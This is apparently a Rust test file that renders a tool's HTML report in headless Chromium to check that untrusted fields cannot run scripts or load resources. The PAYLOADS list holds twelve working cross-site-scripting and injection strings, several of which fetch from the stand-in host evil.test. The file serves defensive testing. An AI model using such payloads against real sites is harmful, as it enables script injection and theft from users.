//! The HTML report in a real browser, with payloads that try to run a script or to call home.
//!
//! The browser is `chromium` (or what `TWINTAP_BROWSER` names). All it loads goes to a proxy of the
//! test, which refuses everything and notes what was asked for. Skipped, with a word on standard
//! error, where there is no browser.

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};

use bytes::Bytes;
use twintap::call::{Role, Status};

use super::recording::{Recording, calls};

/// What a page that trusted its payloads would do: run a script (which marks the document), or ask
/// for something at `evil.test`.
const PAYLOADS: &[&str] = &[
    "<script>document.documentElement.dataset.owned=1</script>",
    "</script><script>document.documentElement.dataset.owned=2</script>",
    "</style><script src=http://evil.test/3.js></script>",
    "<img src=http://evil.test/4.png onerror=document.documentElement.dataset.owned=4>",
    "\"><svg onload=document.documentElement.dataset.owned=5>",
    "'><iframe srcdoc='<script>parent.document.documentElement.dataset.owned=6</script>'></iframe>",
    "<link rel=stylesheet href=http://evil.test/7.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/8'>",
    "<details open ontoggle=document.documentElement.dataset.owned=9>",
    "{{constructor.constructor('document.documentElement.dataset.owned=10')()}}",
    "<a href=javascript:document.documentElement.dataset.owned=11 autofocus onfocus=this.click()>",
    "]]><!--<base href=http://evil.test/>",
];

fn browser() -> Option<PathBuf> {
    if let Some(named) = std::env::var_os("TWINTAP_BROWSER") {
        return Some(named.into());
    }
    let names = ["chromium", "chromium-browser", "google-chrome"];
    let path = std::env::var_os("PATH").unwrap_or_default();
    let mut places = std::env::split_paths(&path).flat_map(|dir| names.map(|name| dir.join(name)));
    places.find(|place| place.is_file())
}

/// Every payload as a method, a value, a status message and a pair id.
fn hostile() -> Recording {
    let mut all = Vec::new();
    for (number, payload) in (0_u64..).zip(PAYLOADS) {
        for mut call in calls(number, 1, 1) {
            call.pair_id = Bytes::from(format!("{number} {payload}"));
            call.rpc_method = format!("shop.{payload}/{payload}");
            if call.role == Role::Candidate {
                call.status = Some(Status(5));
                call.status_message = Bytes::from_static(payload.as_bytes());
            }
            all.push(call);
        }
    }
    Recording::new().part(all).dropped(0)
}

/// A proxy that answers nothing, and the first lines of what it was asked for.
fn refusing_proxy() -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let asked = Arc::new(Mutex::new(Vec::new()));
    let noted = asked.clone();
    std::thread::Builder::new()
        .spawn(move || {
            for stream in listener.incoming().flatten() {
                let mut line = String::new();
                BufReader::new(&stream).read_line(&mut line).ok();
                noted.lock().unwrap().push(line);
                (&stream).write_all(b"HTTP/1.1 403 Forbidden\r\n\r\n").ok();
            }
        })
        .unwrap();
    (address, asked)
}

/// The document after its scripts ran.
fn load(browser: &Path, page: &str, proxy: &str, profile: &Path) -> String {
    let output = Command::new(browser)
        .args([
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
        ])
        .args([
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
        ])
        .args([
            "--disable-sync",
            "--no-default-browser-check",
            "--virtual-time-budget=3000",
        ])
        .arg(format!("--user-data-dir={}", profile.display()))
        .arg(format!("--proxy-server=http://{proxy}"))
        .args(["--proxy-bypass-list=<-loopback>", "--dump-dom", page])
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    String::from_utf8(output.stdout).unwrap()
}

#[test]
fn no_payload_runs_a_script_or_sends_a_request() {
    let Some(browser) = browser() else {
        eprintln!("SKIPPED: no chromium in PATH, and TWINTAP_BROWSER names no other browser");
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("report.html");
    let to_file = format!("html={}", file.display());
    hostile().compare(&["--write-report", &to_file]);
    let (proxy, asked) = refusing_proxy();
    let page = format!("file://{}", file.display());
    let profile = folder.path().join("profile");
    let document = load(&browser, &page, &proxy, &profile);
    let requests = |host: &str| {
        let asked = asked.lock().unwrap();
        asked.iter().filter(|line| line.contains(host)).count()
    };
    // Its own script ran, and no other. (Of each payload, status and message differ.)
    assert!(document.contains("data-ready=\"true\""), "{document}");
    assert!(
        document.contains(&format!("{0} of {0} shown", 2 * PAYLOADS.len())),
        "{document}"
    );
    let root = document
        .split('>')
        .find(|tag| tag.contains("<html"))
        .unwrap();
    assert!(!root.contains("data-owned"), "{root}");
    assert_eq!(requests("evil.test"), 0);

    // The test sees what it looks for: a page that trusts its payloads is owned, and calls home.
    let trusting = folder.path().join("trusting.html");
    std::fs::write(
        &trusting,
        format!("<!doctype html><html><body>{}", PAYLOADS[..5].concat()),
    )
    .unwrap();
    let page = format!("file://{}", trusting.display());
    let document = load(&browser, &page, &proxy, &profile);
    assert!(document.contains("data-owned"), "{document}");
    assert!(requests("evil.test") > 0);
}
